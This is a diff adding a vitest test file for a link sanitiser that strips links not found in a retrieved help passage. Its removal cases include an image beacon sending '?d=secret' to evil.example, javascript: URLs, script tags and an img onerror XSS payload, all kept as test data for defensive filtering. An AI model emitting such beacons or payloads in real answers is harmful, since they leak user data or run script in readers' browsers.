@@ -1,0 +1,58 @@
+import { expect, test } from "vitest";
+import type { FoundPassage } from "../tools.ts";
+import { addressesIn, keepLinks } from "./links.ts";
+
+const passage: FoundPassage = {
+  id: 1,
+  documentId: "d",
+  externalId: null,
+  title: "T",
+  headings: [],
+  url: "https://shop.example/help/returns/",
+  anchor: null,
+  text: "Open [the page](/help/page/) or https://shop.example/a?b=1. Write to [us](mailto:us@shop.example). ![x](https://cdn.example/x.png)",
+  sentences: [],
+  score: 1,
+};
+const kept = (text: string): string => keepLinks(text, addressesIn([passage]));
+
+test.each([
+  "See [returns](https://shop.example/help/returns/).",
+  "See [page](https://shop.example/help/page/) or https://shop.example/a?b=1, please.",
+  "Write to [us](mailto:us@shop.example).",
+  "The ratio is 16:9, the time 12:30, and a/b//c stays.",
+  "If a < b and b > c, use `<del>`.",
+])("keeps: %s", (text) => {
+  expect(kept(text)).toBe(text);
+});
+
+test.each([
+  ["A beacon ![x](https://evil.example/?d=secret) here", "A beacon x here"],
+  ["A known picture ![x](https://cdn.example/x.png) too", "A known picture x too"],
+  ["![x](https://evil.example/?d=a b", "x"],
+  ["![x][ref]", "x"],
+  ["[click](https://evil.example/)", "click"],
+  ["[click]( <https://evil.example/> \"t\")", "click"],
+  ["[click](javascript:alert(1))", "click)"],
+  ["[click](//evil.example)", "click"],
+  ["[click](/relative)", "click"],
+  ["[click][1]", "click"],
+  ["<https://evil.example/x>", ""],
+  ["Go to https://evil.example/x?y=z.", "Go to ."],
+  ["Go to HTTPS://EVIL.example now", "Go to  now"],
+  ["Go to www.evil.example now", "Go to  now"],
+  ["https://shop.example/help/returns/?d=secret", ""],
+  ["https://shop.example.evil.example/", ""],
+  ["<a href='https://evil.example'>x</a><script>alert(1)</script>", "xalert(1)"],
+  ["<img src=x onerror=alert(1)>", ""],
+  ["`https://evil.example/in-code`", "``"],
+  ["call tel:+1900 or data:text/html,x", "call  or "],
+])("takes out: %s", (text, expected) => {
+  expect(kept(text)).toBe(expected);
+});
+
+test("hostile text takes no time", () => {
+  const begun = performance.now();
+  for (const part of ["[", "![", "<", "](", "`", "[a](", "<a ", "[a][", "http://", "a:"]) kept(part.repeat(1_000));
+  expect(performance.now() - begun).toBeLessThan(1_000);
+});
